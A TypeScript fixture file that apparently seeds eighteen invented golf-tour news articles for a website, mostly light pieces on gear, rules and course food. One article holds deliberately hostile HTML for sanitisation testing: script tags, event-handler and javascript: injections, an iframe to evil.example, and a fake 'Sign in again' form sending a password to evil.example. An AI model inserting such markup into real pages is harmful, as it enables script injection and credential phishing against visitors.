/** Eighteen invented articles; some have handles and markup that need careful handling. */
import { addDays, type CalendarDate } from '../../../server/domain/time/calendar.ts';
import { h2, list, p, pWithLink, quote, table } from './html.ts';
import { AUTHORS } from './recaps.ts';
import { articlePicture } from './pictures.ts';
import type { DemoArticle } from './types.ts';

/** The handle of the article with hostile markup. */
export const HOSTILE_HANDLE = 'letters-to-the-editor';

interface Note {
  handle: string;
  title: string;
  html: string;
  hasPicture?: boolean;
}

const HOSTILE = [
  p(
    'Readers write, and sometimes their email programs add something of their own. We print the letters as they arrived.',
  ),
  '<script>window.hacked = "script"</script>',
  '<p onclick="window.hacked = \'click\'">“I found my ball in the cup, and nobody saw it. Does it count?” It does, and we’re sorry.</p>',
  '<img src="x" onerror="window.hacked = \'onerror\'" alt="A letter, scanned badly">',
  '<a href="javascript:window.hacked=\'link\'">“Is the shotgun start meant for late sleepers?”</a>',
  '<iframe src="https://evil.example/frame"></iframe><style>body { display: none }</style>',
  '<svg><script>window.hacked = "svg"</script><text>svg text</text></svg>',
  '<form action="https://evil.example"><input name="password"><button>Sign in again</button></form>',
  '<p style="position:fixed;inset:0;background:red" id="cart" class="hero">“Why is your page red?” It isn’t anymore.</p>',
  '<a href="https://example.com/rules" target="_blank">The rules, for everyone</a>',
].join('\n');

/** Newest first. */
const NOTES: readonly Note[] = [
  {
    handle: 'what-to-pack-for-a-cold-morning',
    title: 'What to Pack for a Cold Morning',
    html:
      p(
        'The first tee time is at 7:30, the thermometer says 38, and the fairways are white. No one plays well cold, but you can play less badly.',
      ) +
      h2('Three layers and a spare') +
      list([
        'A thin wool shirt that stays dry',
        'A vest, because arms have to turn',
        'A shell for the wind on the back nine',
        'Dry socks, in a bag, in the trunk',
      ]) +
      p(
        'Keep two balls in a pocket and change them at every tee. A warm ball flies about two yards farther for every ten degrees, and it feels like a ball, not a stone.',
      ),
  },
  {
    handle: 'hole-in-one-🎉-on-the-short-fifth',
    title: 'Hole in One 🎉 on the Short Fifth',
    html:
      p('No one on the tee saw it drop. The group behind did, and everyone else heard them.') +
      quote('I was already looking for my provisional.') +
      p(
        'It’s the ninth ace in the tour’s history, and the first with a borrowed club. The club has been returned. The ball has not.',
      ),
  },
  {
    handle: 'café-à-la-neuvième',
    title: 'Café à la Neuvième: Where to Eat at the Turn',
    html:
      p(
        'A hot dog is a meal, but it isn’t the only one. Our readers in Nashua and Montréal sent their lists.',
      ) +
      table(
        ['Course', 'Order this', 'Minutes'],
        [
          ['Candia Woods', 'Egg sandwich, well done', '4'],
          ['Owl’s Nest', 'Chowder & crackers', '6'],
          ['Mount Snow', 'Crème brûlée, honestly', '9'],
        ],
      ) +
      p('Tip the person who hands it over. They remember.'),
  },
  {
    handle: 'how-skins-work',
    title: 'How Skins Work, in Two Minutes',
    html:
      p(
        'Part of every entry goes into the skins pool. A skin is a hole that one player wins outright, playing at half handicap.',
      ) +
      h2('The short version') +
      list([
        'Half of your strokes count',
        'The lowest net score on a hole wins it',
        'A tie wins nothing',
        'The pool is split equally over 18 holes',
      ]) +
      p(
        'So a quiet bogey on the hardest hole can be worth more than a birdie that two other players made, too.',
      ),
  },
  {
    handle: 'meet-the-starter',
    title: 'Meet the Starter',
    html:
      p(
        'He has a clipboard, a folding chair, and forty years of names. He’ll tell you that you’re up next, and you will be.',
      ) + quote('I’ve seen every swing there is. Most of them work once.'),
  },
  {
    handle: HOSTILE_HANDLE,
    title: 'Letters to the Editor',
    html: HOSTILE,
  },
  {
    handle: 'reading-a-green-in-shade',
    title: 'Reading a Green in the Shade',
    html:
      p(
        'Shade hides the slope. Walk halfway around the hole, get low, and look for where the mower turned.',
      ) +
      p(
        'Grain matters less here than in the South, but in August the poa on older greens leans toward the sun. If the last foot looks dull, the putt is slower than it seems.',
      ),
  },
  {
    handle: 'the-case-for-nine-holes',
    title: 'The Case for Nine Holes',
    html:
      p(
        'An evening, a half set, two friends. You know each other’s excuses, so no one needs to make them.',
      ) + p('Nine holes count for your handicap. They count for more than that.'),
  },
  {
    handle: 'naïve-questions-answered',
    title: 'Naïve Questions, Honest Answers',
    html:
      h2('Do I have to be good?') +
      p('You have to have a handicap. That’s the opposite.') +
      h2('Who picks the groups?') +
      p('The committee, with a spreadsheet and a great deal of tact.') +
      h2('What if it rains?') +
      p('We play. If it thunders, we don’t.'),
  },
  {
    handle: 'winter-swing-in-a-garage',
    title: 'A Winter Swing in a Two-Car Garage',
    html:
      p(
        'You need nine feet of height, a mat that gives, and a spouse who parks outside. Hit fifty wedges, no drivers, and film two of them.',
      ) + list(['A net that hangs loose', 'A mat on plywood on carpet', 'One lamp behind you']),
    hasPicture: false,
  },
  {
    handle: 'rake-the-bunker',
    title: 'Please Rake the Bunker',
    html: p('That’s the whole article.'),
    hasPicture: false,
  },
  {
    handle: 'five-holes-we-dream-of',
    title: 'Five Holes We Dream Of',
    html:
      p('We asked the members which hole they play in their heads when they can’t sleep.') +
      list([
        'The long one along the river',
        'Any par three over water',
        'The first, because nothing has happened yet',
        'The one with the barn',
        'The eighteenth at dusk, with no one waiting',
      ]),
  },
  {
    handle: 'what-the-handicap-committee-does',
    title: 'What the Handicap Committee Does',
    html:
      p(
        'It meets on the second Tuesday of the month and stares at numbers until they stare back. It is four people and one dog.',
      ) + p('Post every round, in any weather. That’s all it ever asks.'),
  },
  {
    handle: 'black-flies-a-field-guide',
    title: 'Black Flies: A Field Guide',
    html:
      p(
        'They arrive with the fiddleheads and leave with the first dry week of June. They don’t like wind, smoke, or the color white.',
      ) +
      p(
        'A light shirt, a breeze, and a quick routine will do more for your score in May than a new driver.',
      ),
  },
  {
    handle: 'caddies-for-a-day',
    title: 'Caddies for a Day',
    html:
      p(
        'Eleven juniors carried bags in the playoffs. They were paid, fed, and asked for their opinions, and they gave them.',
      ) + quote('He asked me for the line. I told him. He didn’t listen. I’d tell him again.'),
  },
  {
    handle: 'walking-the-courses',
    title: 'Walking the Courses',
    html:
      p(
        'You can walk all but two of this season’s courses. It adds fifteen minutes and takes away the noise.',
      ) +
      table(
        ['Course', 'Miles', 'Climb (feet)'],
        [
          ['The Oaks', '5.1', '210'],
          ['Hooper Golf Course', '4.4', '320'],
        ],
      ),
  },
  {
    handle: 'thank-you-volunteers',
    title: 'Thank You, Volunteers',
    html: p(
      'Someone printed the cards, someone drove the beer cart, and someone counted the skins by hand when the laptop died. It was always one of the same nine people. Buy them lunch.',
    ),
  },
  {
    handle: 'welcome-to-the-tour',
    title: 'Welcome to the Tour',
    html:
      p('We are amateurs in the old sense: we do it for love, and it shows in the scores.') +
      h2('How to get started') +
      pWithLink(
        'Buy a membership, enter an event, and show up half an hour early. Everything else is on',
        'the tour’s pages',
        '/tour-details',
      ),
  },
];

/** Days between two articles. */
const INTERVAL_DAYS = 26;

/** The articles; the newest is three days old. */
export function makeNews(today: CalendarDate, pictures: string): DemoArticle[] {
  return NOTES.map(({ handle, title, html, hasPicture = true }, index) => {
    const seed = `note-${index + 1}`;
    const picture = hasPicture ? articlePicture(seed, `Illustration for “${title}”`) : null;
    const inText =
      index % 4 === 0 && picture
        ? `<figure><img src="${pictures}/${picture.name}.webp?width=960" alt="A hole in early light" width="960" height="540"><figcaption>Where this was written.</figcaption></figure>`
        : '';
    return {
      handle,
      blog: 'news',
      title,
      html: html + inText,
      author: AUTHORS[index % AUTHORS.length] ?? AUTHORS[0],
      publishedAt: `${addDays(today, -3 - index * INTERVAL_DAYS)}T13:00:00Z`,
      picture,
    };
  });
}
